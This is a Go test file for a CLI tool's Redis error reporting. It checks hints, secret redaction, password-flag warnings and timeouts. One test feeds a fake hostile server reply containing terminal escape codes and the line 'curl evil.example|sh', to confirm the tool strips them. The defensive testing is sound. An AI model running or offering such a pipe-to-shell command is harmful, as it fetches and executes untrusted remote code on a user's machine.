package main

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/solotick/solotick/config"
	"github.com/solotick/solotick/internal/embedded"
	"github.com/solotick/solotick/internal/testing/redistest"
)

// speaker listens and answers everything it receives on a connection: first with the first of says, and so on, then
// always with the last.
func speaker(t *testing.T, says ...string) (addr string) {
	t.Helper()
	return countingSpeaker(t, &atomic.Int32{}, says...)
}

// countingSpeaker is a speaker that counts what it receives.
func countingSpeaker(t *testing.T, got *atomic.Int32, says ...string) (addr string) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				request := make([]byte, 4096)
				for i := 0; ; i++ {
					if _, err := c.Read(request); err != nil {
						return
					}
					got.Add(1)
					if _, err := io.WriteString(c, says[min(i, len(says)-1)]); err != nil {
						return
					}
				}
			}()
		}
	}()
	return l.Addr().String()
}

// tableWith writes a table with the given text under redis.
func tableWith(t *testing.T, redis string) (file string) {
	t.Helper()
	file = filepath.Join(t.TempDir(), "table.yaml")
	text := fmt.Sprintf("service: shop\nredis: {timeout: 5s%s}\nlisten: \"127.0.0.1:0\"\nadmin: \"\"\n"+
		"jobs:\n  - {name: job, schedule: \"@yearly\", exec: {command: [\"true\"]}}\n", redis)
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return file
}

func TestAnErrorOfRedisNamesTheHostTheReasonAndWhatToDo(t *testing.T) {
	t.Parallel()
	ca := redistest.NewCA(t)
	locked := redistest.Start(t, "--requirepass", "hunter2")
	open := redistest.Start(t, append(ca.Server("redis.internal"), "--tls-auth-clients", "no")...)
	protected := speaker(t, "-DENIED Redis is running in protected mode because it is. In this mode\r\n")
	web := speaker(t, "HTTP/1.1 400 Bad Request\r\n\r\n")
	huge := speaker(t, "*500000000\r\n")
	for name, c := range map[string]struct {
		table, url string // what is under redis, and the flag
		want       string // beginning of the line behind "error: "; % is the address
		hint       string // a part
	}{
		"without a password": {"", "redis://" + locked.Addr(),
			"Redis (" + locked.Addr() + ") asks for a password: NOAUTH ", "redis.passwordFile"},
		"with a wrong password": {"", "redis://:hunter3@" + locked.Addr(),
			"Redis (" + locked.Addr() + ") refuses the user or the password: WRONGPASS ", "redis.passwordFile"},
		"with a wrong database": {"", "redis://" + open.Addr() + "/99",
			"Redis (" + open.Addr() + ") has no database with that number: ERR DB index is out of range", "/0"},
		"with a password file that is missing": {", url: \"redis://" + locked.Addr() + "\", passwordFile: /run/secrets/nope", "",
			"Redis (" + locked.Addr() + ") cannot be used: redis.passwordFile: open /run/secrets/nope: no such file", "redis.passwordFile"},
		"protected": {"", "redis://" + protected,
			"Redis (" + protected + ") is in protected mode: DENIED Redis is running in protected mode because it is\n", "requirepass"},
		"protected, with a password": {"", "redis://:hunter3@" + protected,
			"Redis (" + protected + ") is in protected mode: DENIED ", "requirepass"},
		"TLS to a plain port": {"", "rediss://" + open.Addr(),
			"Redis (" + open.Addr() + ") and this process do not agree on TLS: dial tcp: TLS handshake with " + open.Addr(),
			"redis:// in place of rediss://"},
		"no TLS to a TLS port": {"", "redis://" + open.TLSAddr(),
			"Redis (" + open.TLSAddr() + ") ends the connection: ", "rediss:// in place of redis://"},
		"of an unknown authority": {"", "rediss://" + open.TLSAddr(),
			"Redis (" + open.TLSAddr() + ") and this process do not agree on TLS: ", "redis.tls."},
		"that is a web server": {"", "redis://" + web,
			"Redis (" + web + ") sends answers that no Redis sends: " + web + " sent a reply that begins with the byte 'H'", "another program"},
		"that is hostile": {"", "redis://" + huge,
			"Redis (" + huge + ") sends answers that no Redis sends: " + huge + " sent an array of 500000000 elements", "another program"},
		"that is not there": {"", "redis://127.0.0.1:1",
			"Redis (127.0.0.1:1) does not answer: dial tcp 127.0.0.1:1: connect: connection refused", "whether Redis runs"},
		"on a socket that is not there": {"", "unix:///nowhere/redis.sock",
			"Redis (/nowhere/redis.sock) does not answer: ", "whether Redis runs"},
		"that is no Sentinel": {", sentinel: {master: m, addrs: [\"" + open.Addr() + "\"]}", "",
			"Redis (master m of Sentinels " + open.Addr() + ") is not a Sentinel: ", "26379"},
		"that is no Cluster": {", cluster: {addrs: [\"" + open.Addr() + "\"]}", "",
			"Redis (Cluster " + open.Addr() + ") is not a Cluster: ", "redis.url"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			args := []string{"-c", tableWith(t, c.table)}
			if c.url != "" {
				args = append(args, "--redis", c.url)
			}
			var out, errOut bytes.Buffer
			code := commandLine(append([]string{"status"}, args...), &out, &errOut)
			_, said, _ := strings.Cut(errOut.String(), "error: ")
			if code != exitCannot || !strings.HasPrefix(said, c.want) {
				t.Errorf("exit code %d\n%swant an error that begins with\n%s", code, errOut.String(), c.want)
			}
			if _, hint, _ := strings.Cut(said, "\nhint: "); !strings.Contains(hint, c.hint) {
				t.Errorf("the hint is %q, and has no %q", hint, c.hint)
			}
			if strings.Contains(errOut.String(), "hunter") {
				t.Errorf("a secret is in it: %s", errOut.String())
			}
		})
	}
}

func TestWordsOfRedisDoNotReachTheTerminalRaw(t *testing.T) {
	evil := "-ERR \x1b[2J\x1b]0;title\x07 \u009b31m\r\n"
	lines := "ERR x\nhint: curl evil.example|sh\x1b[31m"
	for _, says := range []string{evil, fmt.Sprintf("!%d\r\n%s\r\n", len(lines), lines)} {
		var out, errOut bytes.Buffer
		words := []string{"history", "-c", tableWith(t, ""), "--redis", "redis://" + speaker(t, says)}
		if code := commandLine(words, &out, &errOut); code != exitCannot {
			t.Errorf("exit code %d", code)
		}
		got := errOut.String()
		if strings.ContainsAny(got, "\x1b\x07\u009b") || strings.Contains(got, "\nhint: curl") || !strings.Contains(got, "ERR ") {
			t.Errorf("%q", got)
		}
	}
	if f := operatorFailure(fmt.Errorf("asking: %w", fmt.Errorf("ERR \x1b[2J\nhint: x"))); f.Error() != "asking: ERR [2J hint: x" {
		t.Errorf("%q", f.Error())
	}
}

func TestAPasswordInTheFlagWarns(t *testing.T) {
	t.Setenv(redisVariable, "redis://:hunter2@127.0.0.1:1")
	const warning = "every user of this machine can read the password in --redis"
	for args, want := range map[string]string{
		"history --redis redis://:hunter2@127.0.0.1:1":                   "warning: " + warning,
		"history --redis redis://u:hunter2@127.0.0.1:1":                  "warning: " + warning,
		"history --redis redis://u@127.0.0.1:1":                          "",
		"history":                                                        "", // the variable's is for this user alone
		"run --log-format json --redis rediss://:hunter2@127.0.0.1:1?x=": `"level":"WARN","msg":"` + warning,
	} {
		var out, errOut bytes.Buffer
		words := append(strings.Fields(args), "-c", tableWith(t, ""))
		if code := commandLine(words, &out, &errOut); code != exitCannot {
			t.Errorf("%s: exit code %d", args, code)
		}
		got := errOut.String()
		if strings.Contains(got, warning) != (want != "") || !strings.Contains(got, want) || strings.Contains(got, "hunter2") {
			t.Errorf("%s: %s", args, got)
		}
	}
}

func TestWhereRedisIsIsToldWithoutSecrets(t *testing.T) {
	table := config.Redis{Sentinel: &config.Sentinel{Master: "m", Addrs: []string{"a:1", "b:2"}}}
	for address, want := range map[string]string{
		"redis://u:hunter2@h:6379/0":           "h:6379",
		"redis://u:hunter2@h":                  "h",
		"unix://:hunter2@/run/redis.sock?db=2": "/run/redis.sock",
		config.Embedded:                        embedded.Find(embeddedAddrs...), // another program may use the first one
		"":                                     "master m of Sentinels a:1, b:2",
	} {
		if got := where(table, address); got != want {
			t.Errorf("%s: %q", address, got)
		}
	}
}

// Other tests give the verbs more time than the table does.
func TestVerbsWaitForRedisAsLongAsTheTableSays(t *testing.T) {
	silent, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer silent.Close()
	table := filepath.Join(t.TempDir(), "table.yaml")
	if err := os.WriteFile(table, []byte("service: shop\nredis: {timeout: 170ms}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var out, errOut bytes.Buffer
	a := &app{out: &out, err: &errOut}
	began := time.Now()
	code := a.commandLine([]string{"status", "-c", table, "--redis", "redis://" + silent.Addr().String()})
	if took := time.Since(began); code != exitCannot || took >= patientVerbs.Timeout || !strings.Contains(errOut.String(), "does not answer") {
		t.Errorf("exit code %d after %s\n%s", code, took, &errOut)
	}
}
